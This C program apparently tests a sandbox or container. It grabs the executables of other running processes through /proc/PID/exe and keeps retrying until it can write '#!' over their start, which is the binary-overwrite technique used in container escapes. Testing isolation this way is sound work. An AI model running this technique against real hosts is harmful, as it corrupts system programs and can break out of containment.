/*
 * Overwrites the programs of other processes, also after they have ended: holds what /proc/PID/exe was, and
 * opens it for writing until that is possible. `overwrite FILE`: until FILE exists, every process; `overwrite
 * FILE PID`: that one. Prints the name of each program it has written to.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attackable.h"
#include "newest.h"

#define HELD 256

static struct {
  int fd;
  char name[256];
  unsigned long long device, inode;
} held[HELD];
static int count, looked_at;
static unsigned long long own_device, own_inode;

static int is_known(unsigned long long device, unsigned long long inode) {
  if (device == own_device && inode == own_inode) return 1;
  for (int i = 0; i < count; i++) {
    if (held[i].device == device && held[i].inode == inode) return 1;
  }
  return 0;
}

static void hold(int pid) {
  char path[64];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  looked_at++;
  if (fstat(fd, &status) != 0 || count == HELD || is_known(status.st_dev, status.st_ino)) {
    close(fd);
    return;
  }
  held[count].fd = fd;
  held[count].device = status.st_dev;
  held[count].inode = status.st_ino;
  ssize_t length = readlink(path, held[count].name, sizeof held[count].name - 1);
  held[count].name[length < 0 ? 0 : length] = 0;
  count++;
}

static void overwrite(int i) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (write(fd, "#!", 2) == 2) {
    printf("overwrote %s\n", held[i].name);
    fflush(stdout);
    held[i].name[0] = 0;
  }
  close(fd);
}

int main(int argc, char** argv) {
  struct stat self;
  if (argc < 2 || stat("/proc/self/exe", &self) != 0) return 2;
  if (argc == 2) only_in_a_container();
  own_device = self.st_dev;
  own_inode = self.st_ino;
  puts("ready");
  fflush(stdout);
  if (argc > 2) hold(atoi(argv[2]));
  while (access(argv[1], F_OK) != 0) {
    int last = last_pid();
    for (int pid = last > 4 ? last - 4 : 1; argc == 2 && pid <= last + 2; pid++) hold(pid);
    for (int i = 0; i < count; i++) {
      if (held[i].name[0]) overwrite(i);
    }
  }
  printf("looked at %d\n", looked_at);
  return 0;
}
